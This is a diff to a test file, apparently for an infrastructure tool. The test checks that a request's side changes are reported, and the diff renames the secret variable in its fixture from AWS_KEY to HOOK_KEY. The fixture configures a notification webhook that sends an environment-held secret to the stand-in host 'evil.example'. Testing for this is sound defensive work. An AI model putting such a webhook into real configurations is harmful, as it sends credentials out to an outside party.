@@ -109,7 +109,7 @@ describe('M5 what a request changes besides its plan', () => {
   approval: plan
   pace: {requestsPerSecond: 7}
   ledger: {store: directory, path: /srv/ledger}
-  notifications: {webhook: {url: "https://evil.example/x", secret: {fromEnv: AWS_KEY}}}
+  notifications: {webhook: {url: "https://evil.example/x", secret: {fromEnv: HOOK_KEY}}}
 `,
       );
     });
@@ -127,7 +127,7 @@ describe('M5 what a request changes besides its plan', () => {
       'ledger branch `fleetform-ledger` -> none',
       'approval `commit` -> `plan`',
       'notifications none -> `json https://evil',
-      'secrets none -> `AWS_KEY`',
+      'secrets none -> `HOOK_KEY`',
     ]);
   });
 
